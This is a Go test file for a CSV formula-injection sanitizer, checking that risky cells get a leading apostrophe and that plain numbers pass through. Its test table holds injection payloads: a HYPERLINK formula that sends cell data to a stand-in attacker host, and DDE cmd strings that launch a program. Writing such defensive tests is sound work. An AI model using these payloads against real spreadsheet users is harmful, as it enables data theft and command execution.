package csvsafe_test

import (
	"bytes"
	"encoding/csv"
	"testing"

	"schakel/internal/csvsafe"
)

// The inputs of the 2026 pentest finding and OWASP's list, in a text and a
// numeric column.
func TestCells(t *testing.T) {
	for _, tc := range []struct {
		in, text, number string
	}{
		{`=HYPERLINK("http://evil.example/?d="&A1,"klik")`, `'=HYPERLINK("http://evil.example/?d="&A1,"klik")`, `'=HYPERLINK("http://evil.example/?d="&A1,"klik")`},
		{"@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0", "'@SUM(1+9)*cmd|' /C calc'!A0"},
		{"+31 6 12345678", "'+31 6 12345678", "'+31 6 12345678"},
		{"-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0", "'-2+3+cmd|' /C calc'!A0"},
		{"\t=1+1", "'\t=1+1", "'\t=1+1"},
		{"\r=1+1", "'\r=1+1", "'\r=1+1"},
		{"-12", "'-12", "-12"},
		{"+3.5", "'+3.5", "+3.5"},
		{"-1e5", "'-1e5", "'-1e5"},
		{"-0x1p-2", "'-0x1p-2", "'-0x1p-2"},
		{"42", "42", "42"},
		{"Rotterdam", "Rotterdam", "Rotterdam"},
		{"", "", ""},
		{" =1+1", " =1+1", " =1+1"}, // a leading space makes it text already
		{"a=b", "a=b", "a=b"},
	} {
		t.Run(tc.in, func(t *testing.T) {
			if got := csvsafe.Cell(tc.in); got != tc.text {
				t.Errorf("Cell(%q) = %q, want %q", tc.in, got, tc.text)
			}
			if got := csvsafe.NumberCell(tc.in); got != tc.number {
				t.Errorf("NumberCell(%q) = %q, want %q", tc.in, got, tc.number)
			}
		})
	}
}

func TestWriter(t *testing.T) {
	var b bytes.Buffer
	w := csvsafe.NewWriter(&b, 1)
	rec := []string{"=1+1", "-7", "@x", "-7"}
	if err := w.Write(rec); err != nil {
		t.Fatal(err)
	}
	w.Flush()
	if err := w.Error(); err != nil {
		t.Fatal(err)
	}
	if rec[0] != "=1+1" {
		t.Errorf("Write changed the caller's record: %q", rec)
	}
	got, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	want := []string{"'=1+1", "-7", "'@x", "'-7"}
	if len(got) != 1 || len(got[0]) != len(want) {
		t.Fatalf("read back %q", got)
	}
	for i := range want {
		if got[0][i] != want[i] {
			t.Errorf("column %d: %q, want %q", i, got[0][i], want[i])
		}
	}
}
